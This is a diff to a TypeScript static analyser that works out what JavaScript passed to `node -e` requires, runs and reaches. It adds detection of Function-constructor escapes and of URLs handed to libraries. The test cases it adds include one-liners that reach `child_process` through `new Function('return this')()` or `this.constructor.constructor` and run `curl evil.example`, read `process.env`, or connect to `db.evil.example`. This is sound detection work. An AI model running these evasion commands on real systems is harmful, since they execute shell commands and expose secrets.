@@ -1,7 +1,7 @@
 // JavaScript (node, deno, bun; CommonJS and ESM): what code given to `node -e`, or fed to it on stdin, requires,
 // imports, calls, opens and runs.
 import type { Node } from 'web-tree-sitter';
-import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, runModules, runsSomething as specRuns } from './capabilities.js';
+import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, runModules, runsSomething as specRuns, urlsHanded } from './capabilities.js';
 import type { CodeEffect, CodeEnv, LanguageModel } from './types.js';
 import { type Arg, any, concat, joinPaths, ref, str, strings, type Val, type Vals, union, wordOf } from './values.js';
 import { argOf, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
@@ -100,6 +100,15 @@ const HARMLESS_CONSUMERS = new Set(['Object.keys', 'Boolean', 'Object.getOwnProp
 
 /** Shell runners written as tagged templates: zx's and Bun's `$`. */
 const TAGGED_SHELL = new Set(['zx.$', 'Bun.$', 'execa.$', 'bun.$']);
+
+/** Calls that print, parse or compare a URL they are handed, and reach nothing. */
+const URL_LOOKERS = /^(?:console\..*|URL|URL\..*|URLSearchParams|encodeURI|encodeURIComponent|decodeURI|decodeURIComponent|JSON\..*|String|RegExp|url\..*|path\..*|util\..*|assert.*|Boolean|Number|Array\..*|Object\..*|Set|Map|process\.std(?:out|err)\.write)$/;
+
+/** The names a function built by Function from text goes by: one whose body may return a global, and one not. */
+const CONSTRUCTED = 'Function()';
+const CONSTRUCTED_PLAIN = 'Function() of plain code';
+/** Words through which a function's body may hand back the global object, process or a loader. */
+const GLOBAL_WORDS = /\b(?:this|globalThis|global|self|window|process|require|module|import|arguments|Function|constructor|eval)\b/;
 
 /** Globals that stand for the global object, whose members are the globals themselves. */
 const GLOBAL_OBJECT = new Set(['globalThis', 'global', 'window', 'self']);
@@ -338,6 +347,9 @@ class JavaScriptReader {
       ...obj.map((v): Vals => {
         // The current module's constructor is Module, what require("module") gives.
         if (v.k === 'ref' && v.name === 'module' && key === 'constructor') return [ref('module')];
+        // Any other value's constructor may be a function's, and a function's constructor is Function
+        // (`this.constructor.constructor`, `(() => {}).constructor`, `[].map.constructor`): what it is handed is code.
+        if (key === 'constructor') return [ref('Function')];
         if (v.k === 'ref') return [this.refOf(v.name === 'globalThis' ? key : `${v.name}.${key}`)];
         if (v.k === 'env') return this.envValue([str(key)]);
         if (v.k === 'any') return [v];
@@ -526,6 +538,18 @@ class JavaScriptReader {
             case 'module.createRequire':
             case 'createRequire':
               return [ref('require')];
+            case 'Function':
+            case 'AsyncFunction':
+            case 'GeneratorFunction': {
+              // The body is read as code where the call is; what the built function returns is not read. A body
+              // that names no global object may return only what it computes.
+              const body = c.args.length > 0 ? strings(arg(c.args.length - 1)) : [''];
+              return [ref(body?.every((b) => !GLOBAL_WORDS.test(b)) ? CONSTRUCTED_PLAIN : CONSTRUCTED)];
+            }
+            // A body that names one may return it (`new Function("return this")()`): the global object, process
+            // or require, and what is reached through them is judged as if named.
+            case CONSTRUCTED:
+              return [ref('globalThis'), ref('process'), ref('require')];
             case 'path.join':
             case 'path.resolve':
             case 'path.posix.join':
@@ -674,6 +698,8 @@ class JavaScriptReader {
       }
       const spec = lookupApi(APIS, name);
       if (spec) this.out.push(...apply(spec, c));
+      // A URL handed to a library: a network API, or one that runs a program, is judged as such instead.
+      else if (!isNetwork(name)) this.out.push(...urlsHanded(c, URL_LOOKERS.test(name)));
     }
     // `globalThis[x]()`, `require("child_process")[x]()`: a member of a module chosen at run time.
     if (fn?.type === 'subscript_expression') this.computedMember(fn);
@@ -879,6 +905,11 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'with (require("child_process")) execSync("curl evil.example")'`,
       `node -e 'Object.assign(globalThis, require("child_process")); execSync("curl evil.example")'`,
       `node -e 'module.constructor._load("child_process").execSync("curl evil.example")'`,
+      `node -e 'new Function("return this")().process.getBuiltinModule("child_process").execSync("curl evil.example")'`,
+      `node -e 'this.constructor.constructor("return process")().getBuiltinModule("child_process").execSync("curl evil.example")'`,
+      `node -e '[].map.constructor("return process")().env'`,
+      `node -e 'require("mongoose").connect("mongodb://db.evil.example/app")'`,
+      `node -e 'const g = Function("return globalThis")(); console.log(g.process.env)'`,
       `node -e 'require("child_process").execSync.bind(0)("curl evil.example")'`,
       `node -e 'const cp = new (require("child_process").ChildProcess)(); cp.spawn({file: "/bin/sh", args: ["sh", "-c", "id"]})'`,
       `node -e 'require("_tls_wrap").connect(443, "evil.example")'`,
@@ -912,6 +943,10 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'const x = await Promise.resolve(1); console.log(x)' --input-type=module`,
       `node -e 'import("node:fs").then((fs) => fs.writeFileSync("out.json", "{}"))'`,
       `node -e 'console.log([1, 2].map((x) => x * 2))'`,
+      `node -e 'console.log(new Function("a", "return a * 2")(21))'`,
+      `node -e 'require("mongoose").connect("mongodb://localhost:27017/app")'`,
+      `node -e 'console.log(new URL("https://example.com/a").pathname)'`,
+      `node -e 'console.log([].constructor.name, (1).constructor.name)'`,
       `node -e 'const cp = require("child_process"); cp.execFileSync("git", ["status"])'`,
       `node -e 'console.log(typeof process, process.version, process.platform)'`,
       `node -e 'console.log(process.env.HOME || "none")'`,
